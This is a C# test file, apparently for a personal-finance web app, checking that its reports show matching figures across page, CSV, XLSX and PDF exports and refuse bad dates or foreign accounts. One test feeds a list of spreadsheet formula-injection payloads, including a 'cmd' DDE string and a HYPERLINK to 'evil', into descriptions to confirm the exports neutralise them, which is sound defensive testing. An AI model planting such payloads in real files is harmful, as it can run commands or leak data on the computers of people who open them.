using System.Globalization;
using System.Net;
using System.Text;
using PotLock.Web.Tests.Harness;

namespace PotLock.Web.Tests.Reports;

/// <summary>Every report as a page, and as files that independent readers open: the same figures everywhere.</summary>
public sealed class ReportTests(PotLockApp app) : IClassFixture<PotLockApp>
{
    private const string Xlsx = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";

    private static readonly string[] s_payloads =
    [
        "=1+1", "=HYPERLINK(\"//evil\"&A1)", "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "＝1+1", "＋1",
        "－1", "＠A1", "-1\",=1+1,\"", "=A1,B1",
    ];

    private static readonly string[] s_names =
    [
        "income-and-spending", "by-category", "spending", "cash-flow", "net-worth", "pots", "interest", "budget", "year", "statement",
    ];

    public static TheoryData<string> Names => [.. s_names];

    [Theory]
    [MemberData(nameof(Names))]
    public async Task Report_HasTheSameFigures_OnItsPageAndInEveryFile(string name)
    {
        var browser = await FilledAsync();
        var page = (await browser.GetPageAsync($"/reports/{name}?period=this-year")).Expect(HttpStatusCode.OK).HasSoundMarkup();
        var rows = ReportFiles.RowsOf(page);
        if (name == "interest")
        {
            Assert.Empty(rows);
            return;
        }

        Assert.True(rows.Count > 1, $"{name} has no rows.");
        var csv = Encoding.UTF8.GetString(await ReportFiles.BytesAsync(browser, LinkOf(page, "csv"), "text/csv"));
        var workbook = ReportFiles.Workbook(await ReportFiles.BytesAsync(browser, LinkOf(page, "xlsx"), Xlsx));
        var (words, pages, title) = ReportFiles.Pdf(await ReportFiles.BytesAsync(browser, LinkOf(page, "pdf"), "application/pdf"));

        Assert.Equal(rows.Count + 1, csv.Split("\r\n", StringSplitOptions.RemoveEmptyEntries).Length);
        foreach (var (row, line) in rows.Zip(workbook.Skip(4)))
        {
            for (var at = 0; at < row.Count; at++)
            {
                if (IsAmount(row[at]))
                {
                    Assert.Equal(row[at], ReportFiles.Plain(line[at]));
                }
            }
        }

        Assert.InRange(pages, 1, 5);
        Assert.StartsWith(page.TextOf("h1"), title, StringComparison.Ordinal);
        var written = words.CountBy(word => word).ToDictionary();
        Assert.All(ReportFiles.AmountsOf(page).CountBy(amount => amount), amount => Assert.True(
            written.GetValueOrDefault(amount.Key) >= amount.Value, $"{amount.Key} stands {written.GetValueOrDefault(amount.Key)} times."));
    }

    [Fact]
    public async Task Formulas_AreTextsInAWorkbook_AndNeutralInAList()
    {
        var browser = await app.OpenWithMoneyAsync("5000.00");
        foreach (var payload in s_payloads)
        {
            await browser.WithdrawAsync("1.00", ("Description", payload));
        }

        var bytes = await ReportFiles.BytesAsync(browser, "/reports/statement?period=this-month&format=xlsx", Xlsx);
        var csv = Encoding.UTF8.GetString(
            await ReportFiles.BytesAsync(browser, "/reports/statement?period=this-month&format=csv", "text/csv"));

        var texts = ReportFiles.Workbook(bytes).SelectMany(row => row).OfType<string>().ToList();
        Assert.All(s_payloads, payload => Assert.Single(texts, text => text == payload));
        Assert.DoesNotContain("<x:f", ReportFiles.SheetOf(bytes), StringComparison.Ordinal);
        Assert.DoesNotContain("<f", ReportFiles.SheetOf(bytes), StringComparison.Ordinal);
        Assert.All(
            s_payloads,
            payload => Assert.Contains("'" + payload.Replace("\"", "\"\"", StringComparison.Ordinal), csv, StringComparison.Ordinal));
    }

    [Fact]
    public async Task Pdf_DrawsTheNamesOfTheWorld_AndSaysWhereItCannot()
    {
        var browser = await app.OpenWithMoneyAsync("500.00");
        string[] drawn = ["食料品", "교통비", "Продукты", "Ψώνια", "Žluťoučký", "Łódź"];
        foreach (var name in drawn.Append("قهوة").Append("Party \U0001F469\u200D\U0001F680"))
        {
            await browser.WithdrawAsync("1.00", ("Description", name));
        }

        var (words, _, _) = ReportFiles.Pdf(
            await ReportFiles.BytesAsync(browser, "/reports/statement?period=this-month&format=pdf", "application/pdf"));

        var text = string.Join(' ', words);
        Assert.All(drawn, name => Assert.Contains(name, text, StringComparison.Ordinal));
        Assert.Contains("□□□□", text, StringComparison.Ordinal);
        Assert.Contains("A PDF can’t show every letter", text, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Pdf_OfAnOrdinaryBook_ClaimsNoMissingLetters()
    {
        var browser = await FilledAsync();

        var (words, _, _) = ReportFiles.Pdf(
            await ReportFiles.BytesAsync(browser, "/reports/by-category?period=this-year&format=pdf", "application/pdf"));

        Assert.DoesNotContain("□", string.Join(' ', words), StringComparison.Ordinal);
    }

    [Fact]
    public async Task Pdf_OfManyEntries_NamesItsColumnsOnEachPage()
    {
        var browser = await app.OpenWithMoneyAsync("5000.00");
        await app.DepositManyAsync(browser, 120, 1_00);

        var (words, pages, _) = ReportFiles.Pdf(
            await ReportFiles.BytesAsync(browser, "/reports/statement?period=this-month&format=pdf", "application/pdf"));

        Assert.InRange(pages, 3, 6);
        Assert.Equal(pages, words.Count(word => word == "Balance"));
        Assert.Equal(pages, words.Count(word => word == "Page"));
    }

    [Fact]
    public async Task Statement_OfEachAccount_EndsWithItsBalance()
    {
        var browser = await FilledAsync();
        var page = await browser.GetPageAsync("/reports/statement?period=all");
        var accounts = page.Document.QuerySelectorAll("#account option").Select(option => option.GetAttribute("value")!).ToList();
        Assert.True(accounts.Count >= 5);
        Dictionary<string, string> closing = [];
        foreach (var account in accounts)
        {
            var statement = (await browser.GetPageAsync($"/reports/statement?period=all&account={account}")).Expect(HttpStatusCode.OK);
            var rows = ReportFiles.RowsOf(statement);
            closing[account] = rows.Count == 0 ? "0.00" : rows[^1][^1];
        }

        var (active, _, main) = await browser.FiguresAsync();
        Assert.Equal(main, closing[""]);
        Assert.Equal(active, closing[accounts[1]]);
        foreach (var pot in (await browser.GetPageAsync("/pots")).Document.QuerySelectorAll("[data-pot]"))
        {
            Assert.Equal(pot.GetAttribute("data-balance"), closing[pot.GetAttribute("data-pot")!]);
        }

        foreach (var card in (await browser.GetPageAsync("/cards")).Document.QuerySelectorAll("[data-card]"))
        {
            Assert.Equal(card.GetAttribute("data-owed")!.TrimStart('-'), closing[card.GetAttribute("data-card")!].TrimStart('-'));
        }
    }

    [Fact]
    public async Task Statement_OfDaysBefore_EndsWithTheBalanceOfItsLastDay()
    {
        var browser = await app.OpenRegisteredAsync();
        var today = await browser.TodayAsync();
        await browser.DepositAsync("100.00", ("Date", today.AddDays(-3).Iso()));
        await browser.DepositAsync("20.00", ("Date", today.AddDays(-1).Iso()));

        var rows = ReportFiles.RowsOf(await browser.GetPageAsync(
            $"/reports/statement?from={today.AddDays(-2).Iso()}&to={today.AddDays(-2).Iso()}"));
        var later = ReportFiles.RowsOf(await browser.GetPageAsync(
            $"/reports/statement?from={today.AddDays(-1).Iso()}&to={today.Iso()}"));

        Assert.Equal(("100.00", "100.00"), (rows[0][^1], rows[^1][^1]));
        Assert.Equal(("100.00", "20.00", "120.00"), (later[0][^1], later[1][2], later[^1][^1]));
    }

    [Theory]
    [InlineData("from=soon", "from", "We cannot read “soon”. Enter a real date, like 2026-11-21.")]
    [InlineData("from=2026-01-10&to=2026-01-09", "to", "Choose a date that isn’t before 10 January 2026, where the report starts.")]
    [InlineData("from=1969-01-01", "from", "Choose a date that isn’t before 1 January 1970.")]
    public async Task Days_ThatCannotBe_AreRefusedBesideTheirField_AndStay(string query, string field, string sentence)
    {
        var browser = await app.OpenRegisteredAsync();

        foreach (var format in new[] { "", "&format=pdf" })
        {
            var page = (await browser.GetPageAsync($"/reports/cash-flow?{query}{format}")).Expect(HttpStatusCode.UnprocessableEntity)
                .HasSoundMarkup();

            Assert.Contains(sentence, page.ErrorOf(field), StringComparison.Ordinal);
            Assert.Contains(sentence, page.Alert, StringComparison.Ordinal);
            Assert.Equal(query.Split('=', '&')[1], page.Find("#from").GetAttribute("value"));
        }
    }

    [Theory]
    [InlineData("format=docx", "Choose one of the formats: csv, xlsx, pdf.")]
    [InlineData("period=someday", "Choose one of the periods, or two dates.")]
    public async Task Words_ThatThereAreNot_AreRefused(string query, string sentence)
    {
        var browser = await app.OpenRegisteredAsync();

        var page = (await browser.GetPageAsync($"/reports/year?{query}")).Expect(HttpStatusCode.UnprocessableEntity);

        Assert.Contains(sentence, page.Alert, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Account_OfAnotherBook_IsRefused()
    {
        var browser = await app.OpenWithMoneyAsync();
        var other = await app.OpenWithMoneyAsync();
        var account = (await other.GetPageAsync("/reports/statement")).Document.QuerySelectorAll("#account option")[1]
            .GetAttribute("value");

        var page = (await browser.GetPageAsync($"/reports/statement?account={account}")).Expect(HttpStatusCode.UnprocessableEntity);

        Assert.Contains("Choose one of your accounts, pots or cards.", page.Alert, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Report_OfANameThatThereIsNot_IsNotFound()
    {
        var browser = await app.OpenRegisteredAsync();

        (await browser.GetPageAsync("/reports/nothing")).Expect(HttpStatusCode.NotFound);
    }

    [Theory]
    [MemberData(nameof(Names))]
    public async Task Report_OfANewBook_SaysThatNothingIsThere(string name)
    {
        var browser = await app.OpenRegisteredAsync();

        var page = (await browser.GetPageAsync($"/reports/{name}")).Expect(HttpStatusCode.OK).HasSoundMarkup();

        Assert.Contains("Nothing here yet", page.TextOf("h2"), StringComparison.Ordinal);
        foreach (var format in new[] { "csv", "xlsx", "pdf" })
        {
            using var file = await browser.Client.GetAsync(new Uri($"/reports/{name}?format={format}", UriKind.Relative));
            Assert.Equal(HttpStatusCode.OK, file.StatusCode);
        }
    }

    [Fact]
    public async Task Overview_LeadsToEveryReport()
    {
        var browser = await app.OpenRegisteredAsync();

        var links = (await browser.GetPageAsync("/reports")).Document.QuerySelectorAll(".reports a")
            .Select(link => link.GetAttribute("href"));

        string[] beside = ["/reports/verdict", "/insights", "/insights/health"];
        Assert.Equal(s_names.Select(name => "/reports/" + name).Concat(beside).Order(), links.Order());
    }

    [Fact]
    public async Task TaxLine_OfACategory_IsAddedUpInTheYear()
    {
        var browser = await app.OpenWithMoneyAsync();
        var edit = (await browser.GetPageAsync("/settings/categories")).Document.QuerySelectorAll("a.entries__title")
            .First(link => link.TextContent == "Education").GetAttribute("href")!;
        var page = await browser.CarryOutAsync(edit, "form[action$='/edit']", ("TaxLine", " Work expenses "));
        Assert.Equal("You’ve saved Education.", page.Notice);
        Assert.Equal("Work expenses", (await browser.GetPageAsync(edit)).ValueOf("TaxLine"));
        var id = edit.Split('/')[^2];
        await browser.WithdrawAsync("12.35", ("CategoryId", id));

        var rows = ReportFiles.RowsOf(await browser.GetPageAsync("/reports/year?period=this-year"));

        var at = rows.FindIndex(row => row[0] == "For your tax return: Work expenses");
        Assert.Equal(("Education", "12.35"), (rows[at + 1][0], rows[at + 1][1]));
        Assert.Equal(("Work expenses", "12.35"), (rows[at + 2][0], rows[at + 2][1]));
    }

    [Fact]
    public async Task TaxLine_ThatIsTooLong_IsRefusedAtItsField()
    {
        var browser = await app.OpenWithMoneyAsync();
        var edit = (await browser.GetPageAsync("/settings/categories")).Document.QuerySelector("a.entries__title")!.GetAttribute("href")!;

        var page = await browser.SubmitAsync(edit, "form[action$='/edit']", ("TaxLine", new string('x', 61)));

        Assert.Contains("60", (await browser.FollowAsync(page)).ErrorOf("TaxLine"), StringComparison.Ordinal);
    }

    private async Task<Browser> FilledAsync()
    {
        var browser = await app.OpenRegisteredAsync();
        await browser.CreatePotAsync("Holiday", "20", ("TargetAmount", "5000.00"));
        await browser.CreatePotAsync("Bike", "10");
        await browser.DepositAsync("3456.78", ("Description", "Salary"));
        await browser.WithdrawAsync("3.50", ("Description", "Coffee"));
        await browser.WithdrawAsync("1200.01", ("Description", "Rent, and a long text about it that needs more than one line on paper"));
        await browser.CarryOutAsync("/accounts/new", "form[action='/accounts']", ("Name", "Savings"), ("OpeningBalance", "250.00"));
        await browser.CarryOutAsync(
            "/cards/new", "form[action='/cards']", ("Name", "Visa"), ("Limit", "500.00"), ("StatementDay", "3"), ("OpeningOwed", "40.00"));
        return browser;
    }

    private static string LinkOf(Page page, string format) =>
        page.Document.QuerySelectorAll("a[download]").Select(link => link.GetAttribute("href")!)
            .Single(link => link.EndsWith("format=" + format, StringComparison.Ordinal));

    private static bool IsAmount(string text) =>
        text.Contains('.', StringComparison.Ordinal)
        && decimal.TryParse(text, NumberStyles.AllowLeadingSign | NumberStyles.AllowDecimalPoint, CultureInfo.InvariantCulture, out _);
}
